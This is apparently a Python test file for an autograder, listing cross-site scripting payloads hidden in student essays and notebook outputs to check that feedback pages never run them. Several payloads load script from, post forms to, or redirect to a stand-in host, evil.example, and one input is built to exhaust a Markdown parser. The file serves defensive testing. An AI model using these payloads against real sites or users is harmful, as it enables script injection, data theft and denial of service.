"""Attacks on whoever opens the feedback: what a student wrote must not run there."""

from attack import Attack

NOTHING = "\ndef square(x):\n    return 0 * x\n"

ESSAYS = {
    "a script": "<script>alert('PWNED')</script>",
    "a script, spaced": "< script >alert('PWNED')</script\n>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "an image that fails": "<img src=x onerror=alert('PWNED')>",
    "a drawing": "<svg/onload=alert('PWNED')>",
    "a frame": "<iframe srcdoc=\"<script>alert('PWNED')</script>\"></iframe>",
    "a style": "<style>body{background:url(//evil.example)}</style>",
    "a form": "<form action=//evil.example><button>PWNED</button></form>",
    "a redirect": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "a link that acts": "[PWNED](javascript:alert('PWNED'))",
    "a link in disguise": "[PWNED](java&#115;cript:alert('PWNED'))",
    "a link in capitals": "[PWNED](JaVaScRiPt:alert('PWNED'))",
    "a link by reference": "[PWNED][1]\n\n[1]: javascript:alert('PWNED')",
    "a link with data": "[PWNED](data:text/html,<script>alert('PWNED')</script>)",
    "an automatic link": "<javascript:alert('PWNED')>",
    "an image elsewhere": "![PWNED](https://evil.example/track.png)",
    "TeX that acts": r"$\href{javascript:alert('PWNED')}{x}$ $\style{position:fixed}{x}$",
    "links without end": "](" * 60_000 + " " * 60_000,
    "a comment": "<!-- --><script>alert('PWNED')</script>",
    "a closed code block": "```\n</code></pre><script>alert('PWNED')</script>\n```",
    "an end of the page": "</div></body></html><script>alert('PWNED')</script>",
    "an attribute": "**x** <a href='x' onclick=alert('PWNED')>y</a>",
    "a math element": "<math><a xlink:href=javascript:alert('PWNED')>x</a></math>",
}

OUTPUTS = {
    "HTML output": "from IPython.display import HTML\nHTML('<script>alert(\"PWNED\")</script>')",
    "JavaScript output": "from IPython.display import Javascript\nJavascript('alert(\"PWNED\")')",
    "SVG output": "from IPython.display import SVG\n"
    'SVG(\'<svg xmlns="http://www.w3.org/2000/svg"><script>alert("PWNED")</script></svg>\')',
    "Markdown output": "from IPython.display import Markdown\nMarkdown('<script>PWNED</script>')",
    "LaTeX output": r"from IPython.display import Latex" + "\n"
    r"Latex(r'$\href{javascript:alert(1)}{PWNED}$')",
    "a frame as output": "from IPython.display import IFrame\nIFrame('//evil.example', 1, 1)",
    "an image that is none": "from IPython.display import display\n"
    "display({'image/png': '\"><script>alert(1)</script>'}, raw=True)",
    "a widget": "from IPython.display import display\n"
    "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, raw=True)",
    "a script on standard output": "print('<script>alert(\"PWNED\")</script>')",
    "terminal commands": "print('\\x1b]0;PWNED\\x07\\x1b[2J\\x1b[8mhidden')",
    "a script in an error": "raise ValueError('<script>alert(\"PWNED\")</script>')",
    "a script as an error": "raise type('<script>PWNED</script>', (ValueError,), {})('x')",
    "a script in the code": "# </pre></div><script>alert('PWNED')</script>",
}

ATTACKS = [
    *(Attack(f"essay: {name}", {"essay": source}) for name, source in ESSAYS.items()),
    *(Attack(name, {"square": NOTHING}, free=(s,)) for name, s in OUTPUTS.items()),
]
